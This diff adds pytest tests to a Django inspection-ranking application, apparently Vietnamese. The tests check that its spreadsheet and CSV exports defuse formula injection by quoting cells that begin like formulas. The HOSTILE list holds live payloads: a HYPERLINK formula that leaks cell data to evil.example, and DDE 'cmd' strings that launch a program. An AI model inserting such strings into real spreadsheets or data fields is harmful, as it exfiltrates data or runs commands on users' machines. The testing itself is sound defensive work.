@@ -11,7 +11,14 @@ from typing import Any
 import pytest
 from openpyxl import load_workbook
 
-from inspections.exports import HEADER_ROW, ranking_csv, ranking_workbook, sheet_titles
+from inspections.exports import (
+    FORMULA_STARTS,
+    HEADER_ROW,
+    ranking_csv,
+    ranking_workbook,
+    safe_cell,
+    sheet_titles,
+)
 from inspections.selectors import GroupRanking, RankingRow
 
 HEADERS = [
@@ -222,3 +229,171 @@ def test_it_exports_the_ranking_computed_from_stored_results(open_round: Any, or
     ranks = [ws.cell(row=r, column=2).value for r in range(HEADER_ROW + 1, HEADER_ROW + 6)]
     assert ranks == [1, 2, 2, 4, "Chưa xếp hạng"]
     assert ws.cell(row=HEADER_ROW + 1, column=4).value == "Ban Thi đua – Khen thưởng"
+
+
+# Formula injection: names a hostile workbook could carry, each a formula in a spreadsheet.
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?"&D1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=2+2",
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_safe_cell_quotes_text_that_starts_like_a_formula(text: str) -> None:
+    assert safe_cell(text) == "'" + text
+
+
+@pytest.mark.parametrize(
+    "value",
+    [92.5, Decimal("92.50"), -3, 0, None, "", "Sở Nội vụ", "a=b", " =1", datetime.date(2026, 1, 1)],
+)
+def test_safe_cell_leaves_numbers_dates_and_plain_text_alone(value: Any) -> None:
+    assert safe_cell(value) is value
+
+
+def _hostile_groups() -> list[dict[str, Any]]:
+    group = GroupRanking(3, "=G", HOSTILE[0])
+    group.rows = [
+        _row(f"-C{i}", name, i + 1 if i < 3 else None, "tot" if i < 3 else "", "92.5")
+        for i, name in enumerate(HOSTILE)
+    ]
+    return [group.as_json()]
+
+
+def formula_cells(content: bytes) -> list[str]:
+    """Every cell of every sheet that a spreadsheet would evaluate, as Sheet!A1."""
+    found = []
+    for ws in load_workbook(io.BytesIO(content)).worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                text = cell.value if isinstance(cell.value, str) else ""
+                if cell.data_type == "f" or text.startswith(FORMULA_STARTS):
+                    found.append(f"{ws.title}!{cell.coordinate}")
+    return found
+
+
+def unsafe_csv_cells(text: str) -> list[str]:
+    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff")))
+    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
+
+
+def test_the_workbook_holds_no_formula_and_keeps_scores_as_numbers() -> None:
+    content = ranking_workbook(round_info=sample_round(name=HOSTILE[1]), groups=_hostile_groups())
+
+    assert formula_cells(content) == []
+    ws = _open(content).worksheets[0]
+    rows = range(HEADER_ROW + 1, HEADER_ROW + 1 + len(HOSTILE))
+    # XML reads a carriage return back as a line feed: the quote in front is what matters.
+    names = ["'" + n.replace("\r", "\n") for n in HOSTILE]
+    assert [ws.cell(row=r, column=4).value for r in rows] == names
+    assert [ws.cell(row=r, column=3).value for r in rows] == [f"'-C{i}" for i in range(6)]
+    for r in rows:
+        score = ws.cell(row=r, column=5)
+        assert (score.data_type, score.value) == ("n", 92.5)
+        assert ws.cell(row=r, column=1).data_type == "n"
+
+
+def test_the_csv_quotes_every_cell_that_starts_like_a_formula() -> None:
+    text = ranking_csv(round_info=sample_round(), groups=_hostile_groups())
+
+    assert unsafe_csv_cells(text) == []
+    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))[1:]
+    assert [row[0] for row in rows] == ["'" + HOSTILE[0]] * len(HOSTILE)
+    assert [row[4] for row in rows] == ["'" + n for n in HOSTILE]
+    assert {row[5] for row in rows} == {"92.50"}
+
+
+def test_the_workbook_drops_control_characters_an_xlsx_cannot_hold() -> None:
+    group = GroupRanking(3, "g", "Khối")
+    group.rows = [_row("C1", "Sở\x07 Nội vụ\x00", 1, "tot", "90")]
+
+    ws = _open(ranking_workbook(round_info=sample_round(), groups=[group.as_json()])).worksheets[0]
+
+    assert ws.cell(row=HEADER_ROW + 1, column=4).value == "Sở Nội vụ"
+
+
+def _import_hostile_units(by: Any) -> None:
+    """The workbook import (the real path a unit's name comes in by), with every name typed
+    as text, as Excel stores a cell the user started with a quote."""
+    from openpyxl import Workbook
+
+    from inspections.services.units import directory_import
+
+    book = Workbook()
+    sheet = book.active
+    assert sheet is not None
+    sheet.title = "Don vi"
+    sheet.append(["Mã", "Tên", "Cấp trên", "Khối", "Hiệu lực"])
+    for i, name in enumerate(HOSTILE):
+        sheet.append([f"-EVIL{i}", "", "UBND", "phuong-xa", "01/01/2026"])
+        cell = sheet.cell(row=i + 2, column=2)
+        cell.value, cell.data_type = name, "s"
+    out = io.BytesIO()
+    book.save(out)
+    directory_import(by=by, data=out.getvalue())
+
+
+@pytest.mark.django_db
+def test_every_export_of_imported_hostile_names_is_inert(
+    open_round: Any, org: Any, cast: Any
+) -> None:
+    from django.test import Client
+    from rest_framework.test import APIClient
+
+    from inspections import services
+    from inspections.models import OrgUnit
+    from tests.inspections.builders import approved_inspection
+
+    _import_hostile_units(cast.internal_affairs)
+    hostile = list(OrgUnit.objects.filter(code__startswith="-EVIL").order_by("code"))
+    assert [u.name for u in hostile] == [n.strip() for n in HOSTILE]  # the import strips
+    approved_inspection(
+        open_round, hostile[0], cast.inspector, internal_affairs=cast.internal_affairs
+    )
+
+    def exports(user: Any) -> dict[str, tuple[str, bytes]]:
+        api, web = APIClient(), Client()
+        api.force_authenticate(user)
+        web.force_login(user)
+        ranking = f"/api/v1/rounds/{open_round.pk}/ranking/"
+        page = f"/dot/{open_round.pk}/xep-hang/"
+        group = f"group={org.wards.pk}"
+        files = {
+            "api xlsx, all groups": api.get(ranking + "?format=xlsx"),
+            "api xlsx, one group": api.get(ranking + f"?format=xlsx&{group}"),
+            "api csv, all groups": api.get(ranking + "?format=csv"),
+            "api csv, one group": api.get(ranking + f"?format=csv&{group}"),
+            "web xlsx": web.get(page + "?format=xlsx"),
+            "web csv": web.get(page + "?format=csv"),
+        }
+        assert {name: r.status_code for name, r in files.items()} == dict.fromkeys(files, 200)
+        return {name: (name.split()[1].strip(","), r.content) for name, r in files.items()}
+
+    services.round_close(round=open_round, by=cast.internal_affairs)
+    live = exports(cast.internal_affairs)  # Internal Affairs, before publication
+    services.round_publish(round=open_round, by=cast.internal_affairs)
+    published = exports(cast.ward_office)  # any role, from the published snapshot
+
+    for name, (kind, content) in {**live, **published}.items():
+        if kind == "xlsx":
+            assert formula_cells(content) == [], name
+            ws = load_workbook(io.BytesIO(content))["Khối phường, xã"]
+            cells = {
+                ws.cell(row=r, column=4).value: ws.cell(row=r, column=5)
+                for r in range(HEADER_ROW + 1, ws.max_row + 1)
+            }
+            for unit in hostile:
+                assert "'" + unit.name in cells, name
+            score = cells["'" + hostile[0].name]
+            assert score.data_type == "n" and isinstance(score.value, int | float), name
+        else:
+            text = content.decode("utf-8-sig")
+            assert unsafe_csv_cells(text) == [], name
+            rows = {row[4]: row for row in csv.reader(io.StringIO(text))}
+            for unit in hostile:
+                assert rows["'" + unit.name][3] == "'" + unit.code, name
+            assert float(rows["'" + hostile[0].name][5]) > 0, name
